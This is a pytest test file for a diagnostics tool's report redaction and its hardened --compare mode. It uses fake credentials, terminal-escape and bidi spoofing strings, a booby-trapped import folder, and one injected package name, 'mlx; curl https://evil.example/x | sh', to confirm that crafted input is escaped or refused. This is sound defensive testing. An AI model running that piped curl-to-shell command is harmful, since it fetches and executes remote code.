"""Reports safe to share and a --compare that trusts nothing it reads (#28): no secret of any
form users set reaches the report, the table or a file; a crafted or damaged report is
"cannot compare" (exit 2) or shown escaped, never pasted into a command; the probe child
does not see the folder the user stands in."""

from __future__ import annotations

import copy
import json
import re
import subprocess
import sys
from importlib.metadata import version
from pathlib import Path
from typing import Any

import pytest

from athena.doctor.checks import run_doctor
from athena.doctor.compare import MAX_REPORT_BYTES, NOT_A_NAME
from athena.doctor.probe import run_probe
from athena.doctor.report import SCHEMA_ID, shown

from .conftest import clean_env, validate

ATHENA = Path(sys.executable).parent / "athena"
PYENV = Path.home() / ".pyenv" / "versions"

# Every form users set credentials in, and the secret parts of them.
SECRETS = {
    "UV_INDEX_URL": "https://user-alice:index-token-1@pypi.example.com/simple",
    "UV_EXTRA_INDEX_URL": "https://user-bob:extra-token-2@one.example.com/simple "
    "https://two.example.com/simple?token=query-token-3 "
    "https://__token__:extra-token-4@three.example.com/simple",
    "UV_PUBLISH_TOKEN": "pypi-publish-token-5",
    "UV_INDEX_INTERNAL_PASSWORD": "index-password-6",
    "UV_INDEX_INTERNAL_USERNAME": "index-user-carol",
    "UV_INDEX": "internal=https://user-dave:index-password-7@internal.example.com/simple",
    "UV_DEFAULT_INDEX": "https://oauth2accesstoken:ya29-default-token-8@pkg.example.dev/simple",
    "UV_FIND_LINKS": "https://user-frank:links-pass,word-9@links.example.com/w/,"
    "https://x.example.com/w?sig=signature-10",
    "HF_TOKEN": "hf_hubsecrettoken11",
    "HF_ENDPOINT": "https://hub.example.com/?api_key=hub-key-12",
    "ATHENA_HUB_TOKEN": "athena-token-13",
    "HTTPS_PROXY": "http://user-erin:proxy-pass-14@proxy.example.com:3128",
}
SECRET_PARTS = [
    *("user-alice", "index-token-1", "user-bob", "extra-token-2", "query-token-3", "__token__"),
    *("extra-token-4", "publish-token-5", "index-password-6", "index-user-carol", "user-dave"),
    *("index-password-7", "oauth2accesstoken", "default-token-8", "user-frank", "links-pass"),
    *("word-9", "signature-10", "hf_hubsecrettoken11", "hub-key-12", "athena-token-13"),
    *("user-erin", "proxy-pass-14"),
]


def test_no_secret_reaches_the_report_the_table_or_a_file(base_python: str, tmp_path: Path) -> None:
    """The base Python (no mlx probe) keeps it short; the variables are the doctor's own, and
    the audit runs uv with them (uv then re-resolves and fails offline: its message too)."""
    env = clean_env(ATHENA_CACHE_DIR=str(tmp_path / "cache"), HF_HUB_OFFLINE="1")
    env.update(SECRETS)
    report = tmp_path / "report.json"
    fast = ("--python", base_python)
    runs = [
        subprocess.run(
            [str(ATHENA), "doctor", *args],
            capture_output=True,
            text=True,
            env=env,
            cwd=tmp_path,
            check=False,
            timeout=900,
        )
        for args in (("--json", *fast), fast)
    ]
    report.write_text(runs[0].stdout)
    runs.append(
        subprocess.run(
            [str(ATHENA), "doctor", "--compare", str(report), str(report)],
            capture_output=True,
            text=True,
            env=env,
            check=False,
        )
    )
    assert [run.returncode in (0, 1) for run in runs] == [True, True, True], runs[0].stderr
    written = [p.read_text(errors="replace") for p in tmp_path.rglob("*") if p.is_file()]
    everything = "\n".join([*written, *(run.stdout + run.stderr for run in runs)])
    assert all(part in " ".join(SECRETS.values()) for part in SECRET_PARTS)
    assert [part for part in SECRET_PARTS if part in everything] == []
    # what stays is what the machines differ by: the hosts, the paths, that a token is set
    shared = json.loads(runs[0].stdout)["fingerprint"]["env"]
    assert shared["UV_INDEX_URL"] == "https://pypi.example.com/simple"
    assert shared["UV_EXTRA_INDEX_URL"] == (
        "https://one.example.com/simple https://two.example.com/simple "
        "https://three.example.com/simple"
    )
    assert shared["UV_INDEX"] == "internal=https://internal.example.com/simple"
    assert shared["UV_FIND_LINKS"] == "https://links.example.com/w/,https://x.example.com/w"
    assert shared["HF_ENDPOINT"] == "https://hub.example.com/"
    assert shared["HF_TOKEN"] == "(set)" and shared["HF_HUB_OFFLINE"] == "1"
    assert "UV_PUBLISH_TOKEN" not in shared and "ATHENA_HUB_TOKEN" not in shared


# ------------------------------------------------------------ --compare on crafted reports


@pytest.fixture(scope="module")
def good(base_python: str) -> dict[str, Any]:
    """A real report (of the base Python: no mlx probe, quick), as `--json` prints it."""
    report: dict[str, Any] = json.loads(run_doctor(python=base_python, audit=False).to_json())
    return report


def compare_files(tmp_path: Path, a: Any, b: Any, *args: str) -> subprocess.CompletedProcess[str]:
    for name, report in (("a.json", a), ("b.json", b)):
        data = report if isinstance(report, bytes) else json.dumps(report).encode()
        (tmp_path / name).write_bytes(data)
    result = subprocess.run(
        [
            str(ATHENA),
            "doctor",
            "--compare",
            str(tmp_path / "a.json"),
            str(tmp_path / "b.json"),
            *args,
        ],
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    assert "Traceback" not in result.stderr, result.stderr
    return result


def with_package(report: dict[str, Any], name: str, **fields: Any) -> dict[str, Any]:
    crafted = copy.deepcopy(report)
    entry = {"installed": "1.0", "matches_lock": False, "tags": ["py3-none-any"], "wheel": None}
    crafted["fingerprint"]["packages"][name] = entry | fields
    return crafted


def test_a_valid_report_compares_reproducible(good: dict[str, Any], tmp_path: Path) -> None:
    validate(good, tmp_path)
    result = compare_files(tmp_path, good, good)
    assert result.returncode == 0 and result.stdout.splitlines()[-1].startswith("REPRODUCIBLE")


def test_shell_metacharacters_in_a_name_never_reach_a_command(
    good: dict[str, Any], tmp_path: Path
) -> None:
    name = "mlx; curl https://evil.example/x | sh #"
    result = compare_files(tmp_path, good, with_package(good, name))
    assert result.returncode == 1
    assert result.stdout.splitlines()[-1].startswith("NOT REPRODUCIBLE")
    fixes = [line for line in result.stdout.splitlines() if "->" in line]
    assert fixes and not [line for line in fixes if "curl" in line]
    assert f"-> {NOT_A_NAME}" in result.stdout and f"package {name}" in result.stdout
    # a well-formed name still gets its command
    well = compare_files(tmp_path, good, with_package(good, "my.pkg_2"))
    assert "-> `uv sync --locked --reinstall-package my.pkg_2` on B" in well.stdout


def test_control_characters_cannot_overwrite_the_verdict(
    good: dict[str, Any], tmp_path: Path
) -> None:
    name = "numpy\r\x1b[2K\x1b[1AREPRODUCIBLE: all agree\x1b[8m\u202e\x85"
    crafted = with_package(good, name)
    crafted["fingerprint"]["env"]["UV_PYTHON"] = "python\u202egnp.exe\x07"
    for args in ((), ("--json",)):
        result = compare_files(tmp_path, good, crafted, *args)
        assert result.returncode == 1
        assert not re.search(
            r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", result.stdout
        )
    text = compare_files(tmp_path, good, crafted).stdout
    assert "numpy\\r\\x1b[2K\\x1b[1AREPRODUCIBLE: all agree\\x1b[8m\\u202e\\x85" in text
    assert "python\\u202egnp.exe\\x07" in text
    assert text.splitlines()[-1].startswith("NOT REPRODUCIBLE")


def test_a_shown_value_is_escaped_and_bounded() -> None:
    assert (
        shown("a\x1b[31mb\r\n\t\u202ec\u2066\x85\x7f")
        == "a\\x1b[31mb\\r\\n\\t\\u202ec\\u2066\\x85\\x7f"
    )
    assert shown("x" * 1000) == "x" * 120 + "... (1000 characters)"
    assert shown({"b": 1, "a": None}) == '{"a": null, "b": 1}'


def drop(path: str) -> Any:
    def change(report: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node = report
        for key in parents:
            node = node[key]
        del node[last]

    return change


def set_to(path: str, value: Any) -> Any:
    def change(report: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node = report
        for key in parents:
            node = node[key]
        node[last] = value

    return change


# (what is done to report B, the words of the one-sentence refusal)
REFUSED = {
    "no packages": (drop("fingerprint.packages"), "fingerprint has no packages"),
    "packages null": (set_to("fingerprint.packages", None), "fingerprint.packages is empty"),
    "packages empty": (set_to("fingerprint.packages", {}), "fingerprint.packages is empty"),
    "no tags": (drop("fingerprint.packages.numpy.tags"), "fingerprint.packages.numpy has no tags"),
    "tags: 5": (
        set_to("fingerprint.packages.numpy.tags", 5),
        "fingerprint.packages.numpy.tags is 5, not array or null",
    ),
    "a tag that is a number": (
        set_to("fingerprint.packages.numpy.tags", [1]),
        "fingerprint.packages.numpy.tags[0] is 1, not string",
    ),
    "memory as text": (
        set_to("fingerprint.total_memory", "lots"),
        'fingerprint.total_memory is "lots", not integer or null',
    ),
    "memory as a boolean": (
        set_to("fingerprint.total_memory", True),
        "fingerprint.total_memory is true, not integer or null",
    ),
    "an env value that is a number": (
        set_to("fingerprint.env.UV_PYTHON", 5),
        "fingerprint.env.UV_PYTHON is 5, not string or null",
    ),
    "an unknown variable": (
        set_to("fingerprint.env.UV_PUBLISH_TOKEN", "x"),
        "fingerprint.env has UV_PUBLISH_TOKEN, which schema.json does not define",
    ),
    "no uv.lock sha": (
        set_to("fingerprint.uv_lock_sha256", None),
        "fingerprint.uv_lock_sha256 is empty",
    ),
    "a sha that is not one": (
        set_to("fingerprint.uv_lock_sha256", "abc"),
        'fingerprint.uv_lock_sha256 is "abc", not of the form',
    ),
    "fingerprint as a list": (set_to("fingerprint", []), "fingerprint is [], not object"),
    "no checks": (drop("checks"), "the report has no checks"),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_a_report_that_lacks_what_a_verdict_needs_cannot_be_compared(
    case: str, good: dict[str, Any], tmp_path: Path
) -> None:
    change, says = REFUSED[case]
    crafted = copy.deepcopy(good)
    change(crafted)
    result = compare_files(tmp_path, good, crafted)
    assert result.returncode == 2 and result.stdout == ""
    assert f"cannot compare: in {tmp_path / 'b.json'}, {says}" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    if "is empty" not in says:  # schema.json's own refusal: a real validator agrees
        validate(crafted, tmp_path, valid=False)


def test_two_reports_without_packages_are_never_reproducible(
    good: dict[str, Any], tmp_path: Path
) -> None:
    crafted = copy.deepcopy(good)
    crafted["fingerprint"]["packages"] = None
    result = compare_files(tmp_path, crafted, crafted)
    assert result.returncode == 2 and "REPRODUCIBLE" not in result.stdout
    assert f"in {tmp_path / 'a.json'}, fingerprint.packages is empty" in result.stderr


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"not json {", "is not JSON"),
        (b"\xff\xfe binary", "is not JSON"),
        (None, "is not JSON"),  # the good report cut in half
        (b'{"schema": "athena-doctor/2", "fingerprint": {}}', "this athena reads athena-doctor/3"),
        (b"x" * (MAX_REPORT_BYTES + 1), f"is over {MAX_REPORT_BYTES >> 20} MiB"),
    ],
)
def test_damaged_huge_and_old_files_are_one_sentence(
    content: bytes | None, says: str, good: dict[str, Any], tmp_path: Path
) -> None:
    whole = json.dumps(good).encode()
    result = compare_files(tmp_path, good, whole[: len(whole) // 2] if content is None else content)
    assert result.returncode == 2 and says in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and result.stdout == ""


def test_the_schema_id_is_the_one_reports_carry(good: dict[str, Any]) -> None:
    assert good["schema"] == SCHEMA_ID == "athena-doctor/3"


# -------------------------------------------------------- the probe and the current folder


def pythons() -> list[str]:
    """This venv's Python and every CPython 3.9-3.13 pyenv has here."""
    found = [sys.executable]
    for minor in range(9, 14):
        found += sorted(str(p / "bin" / "python3") for p in PYENV.glob(f"3.{minor}.*"))[-1:]
    return [python for python in found if Path(python).is_file()]


def booby_trapped(folder: Path) -> Path:
    """A json.py (imported by anything that imports json) and an mlx/ that write a marker,
    and a fake mlx 0.0.1 distribution."""
    marker = folder / "marker"
    trap = f"open({str(marker)!r}, 'a').write(__name__ + '\\n')\n"
    (folder / "json.py").write_text(trap)
    (folder / "mlx").mkdir()
    (folder / "mlx" / "__init__.py").write_text(trap)
    info = folder / "mlx-0.0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: mlx\nVersion: 0.0.1\n")
    return marker


@pytest.mark.parametrize("python", pythons())
def test_the_probe_does_not_see_the_current_folder(
    python: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = booby_trapped(tmp_path)
    monkeypatch.chdir(tmp_path)
    probe = run_probe(python, ("env",), timeout=120)
    env = probe.step("env") or {}
    assert env.get("ok"), probe.stderr
    mlx = [d["version"] for d in env["distributions"] if d["name"] == "mlx"]
    assert "0.0.1" not in mlx and not marker.exists()


def test_the_doctor_from_a_booby_trapped_folder_reports_the_real_mlx(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pytest.importorskip("mlx.core", reason="install the mlx-cpu group: uv sync --group mlx-cpu")
    marker = booby_trapped(tmp_path)
    monkeypatch.chdir(tmp_path)
    report = run_doctor(audit=False)
    assert not marker.exists()
    assert report.fingerprint["packages"]["mlx"]["installed"] == version("mlx")
    imported = report.get("imports.mlx")
    assert imported is not None and imported.status == "pass"
    assert str(tmp_path) not in json.dumps(imported.data)


def test_this_machine_is_checked_like_any_report(
    good: dict[str, Any], base_python: str, tmp_path: Path
) -> None:
    """A checkout whose uv.lock is empty: this machine's report has no packages to compare."""
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\n')
    (tmp_path / "uv.lock").write_text("")
    (tmp_path / "b.json").write_text(json.dumps(good))
    command = ["doctor", "--compare", str(tmp_path / "b.json"), "--project", str(tmp_path)]
    result = subprocess.run(
        [str(ATHENA), *command, "--python", base_python],
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )
    assert result.returncode == 2 and "REPRODUCIBLE" not in result.stdout
    assert "cannot compare: in this machine (" in result.stderr
    assert "fingerprint.packages is empty" in result.stderr and "Traceback" not in result.stderr
